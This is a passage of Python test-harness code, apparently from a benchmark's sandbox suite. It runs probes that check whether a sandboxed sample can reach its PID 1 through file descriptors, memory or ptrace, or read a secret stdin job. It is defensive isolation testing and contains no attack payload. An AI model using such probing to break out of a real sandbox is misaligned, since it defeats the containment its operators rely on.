"""What a process of the sandbox can reach of its PID 1 (descriptors, memory, ptrace)."""


def init_probe(backend: str, tmp_root: str) -> dict[str, str]:
    import importlib

    from benchwright.sandbox.base import SandboxLimits

    module, name = SANDBOX_CLASSES[backend].rsplit(".", 1)
    sandbox = getattr(importlib.import_module(module), name)(tmp_root=tmp_root)
    r = sandbox.run([sandbox.python, "-I", "-S", "-c", INIT_PROBE], files={},
                    limits=SandboxLimits(wall_s=20), stdin=b"a job the sample must not read\n")
    found: dict[str, str] = json.loads(r.stdout)
    return found


def main(argv: list[str]) -> None:
    root = tempfile.mkdtemp(prefix="bw-hostile-")
    os.chmod(root, 0o755)
    if argv[1] == "init":
        print(json.dumps(init_probe(argv[2], root)))
        return
    if argv[1] == "coverage":
        print(json.dumps(coverage_batch(argv[2], root)))
        return
    if argv[1] == "exec-server":
        print(json.dumps(exec_server_batch(argv[2], argv[3], root)))
        return
    if argv[1] == "build-cache":
        print(json.dumps(build_cache_batch(argv[2], argv[3], root)))
        return
    language, backend = argv[1], argv[2]
    print(json.dumps(batch(language, backend, root)))


Runner = Callable[[str, str], dict[str, Any]]

if __name__ == "__main__":
    sys.path.insert(0, os.environ.get("BW_PACKAGE_PATH", ""))
    main(sys.argv)
